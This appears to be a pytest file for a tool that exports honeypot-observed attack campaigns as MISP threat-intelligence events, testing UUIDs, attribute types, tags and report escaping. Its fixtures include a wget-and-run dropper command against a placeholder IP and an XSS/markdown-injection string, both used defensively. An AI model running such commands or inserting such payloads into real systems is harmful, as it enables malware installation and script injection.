"""One deterministic MISP event per campaign: UUIDs, attribute types, IDS flags, tags and report."""

from __future__ import annotations

import json
import re
import uuid
from dataclasses import replace
from pathlib import Path

import pymisp
import pytest

from coord_core.contracts.campaigns import Verdict
from coord_core.intel import identifiers
from coord_core.intel.campaign_event import build_event, qualifies
from coord_core.intel.misp_format import misp_event
from coord_core.intel.occurrence import CampaignOccurrence
from coord_core.intel.report import code_block, markdown_text
from coord_core.intel.settings import MispExportSettings
from coord_core.intel.taxonomy import likelihood_band, likelihood_tag
from tests.intel.support import BOT_IPS, DROPPER_SHA, DROPPER_URL, bot_session, campaign, occurrence, window

DESCRIBE = json.loads((Path(pymisp.__file__).parent / "data" / "describeTypes.json").read_text())["result"]
SETTINGS = MispExportSettings()


def test_event_and_attribute_uuids_are_deterministic_and_unique() -> None:
    first = build_event("cmp-abc", [occurrence("cmp-abc", 0, BOT_IPS)], SETTINGS)
    again = build_event("cmp-abc", [occurrence("cmp-abc", 0, BOT_IPS)], SETTINGS)
    assert first == again
    assert (
        first.uuid
        == identifiers.event_uuid("cmp-abc")
        == str(uuid.uuid5(identifiers.PROJECT_NAMESPACE, "campaign:cmp-abc"))
    )
    assert uuid.UUID(first.uuid).version == 5
    uuids = [a.uuid for a in first.attributes] + [first.report.uuid, first.uuid]
    assert len(set(uuids)) == len(uuids)
    other = build_event("cmp-other", [occurrence("cmp-other", 0, BOT_IPS)], SETTINGS)
    assert not {a.uuid for a in first.attributes} & {
        a.uuid for a in other.attributes
    }  # MISP: unique across events


def test_attributes_types_categories_and_ids_flags() -> None:
    event = build_event("cmp-abc", [occurrence("cmp-abc", 0, BOT_IPS)], SETTINGS)
    by_type: dict[str, list[str]] = {}
    for attribute in event.attributes:
        by_type.setdefault(attribute.misp_type, []).append(attribute.value)
        assert attribute.misp_type in DESCRIBE["category_type_mappings"][attribute.category]
        assert attribute.comment and len(attribute.comment) < 200
        assert attribute.first_seen <= attribute.last_seen
    assert sorted(by_type["ip-src"]) == sorted(BOT_IPS)
    assert by_type["url"] == [DROPPER_URL]
    assert by_type["ip-dst"] == ["203.0.113.50"]
    assert by_type["sha256"] == [DROPPER_SHA]
    assert by_type["hassh-md5"] == ["ec7378c1a92f5a8dde7e8b7a1ddf33d1"]
    assert by_type["text"] == ["cd /tmp\nwget http://203.0.113.50/bins/x86.sh\nsh x86.sh"]
    ids = {a.misp_type: a.to_ids for a in event.attributes}
    assert ids == {
        "ip-src": True,
        "url": True,
        "ip-dst": True,
        "sha256": True,
        "hassh-md5": False,
        "text": False,
    }
    ip = next(a for a in event.attributes if a.value == BOT_IPS[0])
    assert ip.comment == "source of attack sessions; 1 session(s)"


def test_pymisp_accepts_the_event_strictly() -> None:
    event = build_event("cmp-abc", [occurrence("cmp-abc", 0, BOT_IPS)], SETTINGS)
    rendered = misp_event(event)
    loaded = pymisp.MISPEvent(strict_validation=True)
    loaded.load(rendered.to_json())
    assert loaded.uuid == event.uuid
    assert {a.uuid for a in loaded.attributes} == {a.uuid for a in event.attributes}
    assert [t.name for t in loaded.tags] == list(event.tags)


@pytest.mark.parametrize(
    ("confidence", "band"),
    [(0.0, "almost-no-chance"), (0.049, "almost-no-chance"), (0.05, "very-unlikely"), (0.3, "unlikely"),
     (0.5, "roughly-even-chance"), (0.55, "likely"), (0.8, "very-likely"), (0.95, "almost-certain"),
     (1.0, "almost-certain")],
)  # fmt: skip
def test_confidence_maps_to_the_estimative_language_taxonomy(confidence: float, band: str) -> None:
    assert likelihood_band(confidence) == band
    assert likelihood_tag(confidence) == f'estimative-language:likelihood-probability="{band}"'


def test_tags_follow_settings_verdict_and_confidence() -> None:
    occ = occurrence("cmp-abc", 0, BOT_IPS[:2], confidence=0.62, verdict=Verdict.SINGLE_ACTOR_MULTI_SOURCE)
    event = build_event("cmp-abc", [occ], MispExportSettings(tlp="tlp:green"))
    assert event.tags == (
        "tlp:green",
        'estimative-language:likelihood-probability="likely"',
        'dshield-coord:verdict="single_actor_multi_source"',
    )


def test_only_non_coincidental_campaigns_at_or_above_the_threshold_qualify() -> None:
    sessions = [bot_session("s1", "192.0.2.1", window(0).start)]
    assert qualifies(campaign("c", sessions, confidence=0.5), 0.5)
    assert not qualifies(campaign("c", sessions, confidence=0.49), 0.5)
    assert not qualifies(campaign("c", sessions, confidence=0.99, verdict=Verdict.COINCIDENTAL), 0.5)


def test_a_campaign_over_several_intervals_is_one_event_with_all_occurrences() -> None:
    early = occurrence("cmp-a", 0, BOT_IPS[:2], confidence=0.7)
    late = occurrence("cmp-b", 1, BOT_IPS[1:], confidence=0.9)
    event = build_event("cmp-a", [late, early], SETTINGS)
    assert event.uuid == identifiers.event_uuid("cmp-a")
    assert event.occurrence_ids == ("cmp-a", "cmp-b")
    assert sorted(a.value for a in event.attributes if a.misp_type == "ip-src") == sorted(BOT_IPS)
    assert event.confidence == 0.9 and 'likelihood-probability="very-likely"' in event.tags[1]
    shared = next(a for a in event.attributes if a.value == BOT_IPS[1])
    assert shared.first_seen == early.sessions[1].start and shared.last_seen == late.sessions[0].end
    assert event.date == early.window.start.date()
    assert "4 source IPs" in event.info and "cmp-a" in event.info


def test_members_whose_sessions_are_gone_still_give_their_source_ips() -> None:
    full = occurrence("cmp-a", 0, BOT_IPS)
    purged = CampaignOccurrence(full.window, full.campaign, ())
    event = build_event("cmp-a", [purged], SETTINGS)
    assert sorted(a.value for a in event.attributes) == sorted(BOT_IPS)
    assert {a.first_seen for a in event.attributes} == {full.campaign.first_seen}


def test_command_sequences_are_limited_to_the_most_shared() -> None:
    sessions = [
        bot_session(f"s{i}", f"192.0.2.{i}", window(0).start, commands=[f"echo {i % 3}"]) for i in range(9)
    ]
    occ = CampaignOccurrence(window(0), campaign("cmp-a", sessions), tuple(sessions))
    event = build_event("cmp-a", [occ], MispExportSettings(max_command_sequences=2))
    assert [a.value for a in event.attributes if a.misp_type == "text"] == ["echo 0", "echo 1"]
    assert (
        build_event("cmp-a", [occ], MispExportSettings(max_command_sequences=0)).attributes[-1].misp_type
        != "text"
    )


def test_invalid_values_are_left_out_and_recorded() -> None:
    sessions = [bot_session("s1", "192.0.2.1", window(0).start, url="not-a-url", sha="zz")]
    occ = CampaignOccurrence(window(0), campaign("cmp-a", sessions), tuple(sessions))
    event = build_event("cmp-a", [occ], SETTINGS)
    assert {a.misp_type for a in event.attributes} == {"ip-src", "hassh-md5", "text"}
    assert sorted(r.reason for r in event.rejected) == [
        "no supported scheme or no host",
        "not an MD5/SHA-1/SHA-256 hex digest",
    ]


def test_attacker_strings_in_evidence_cannot_inject_markdown() -> None:
    hostile = "`](javascript:alert(1)) <img src=x onerror=alert(1)> | cell\n# heading ``` fence"
    occ = occurrence("cmp-a", 0, BOT_IPS, summary=hostile)
    evidence = occ.campaign.evidence[0].model_copy(update={"statistic": {"cmd": "````x````"}})
    occ = replace(occ, campaign=occ.campaign.model_copy(update={"evidence": [evidence]}))
    report = build_event("cmp-a", [occ], SETTINGS).report.content
    assert "<img" not in report and "&lt;img" in report
    assert not re.search(r"(?<!\\)\]\(", report)  # no unescaped "](": no link can form
    assert "\n# heading" not in report
    row = next(line for line in report.splitlines() if "shared\\_artifacts" in line and "|" in line)
    assert len(re.findall(r"(?<!\\)\|", row)) == 5  # the attacker's pipe is escaped: still four cells
    fences = re.findall(r"^(`{3,})json$", report, flags=re.MULTILINE)
    assert fences and all(len(f) > 4 for f in fences)  # longer than the statistic's backtick run
    assert markdown_text("a" * 500).endswith("…") and len(markdown_text("a" * 500)) <= 301
    assert code_block("x").startswith("```json\n")
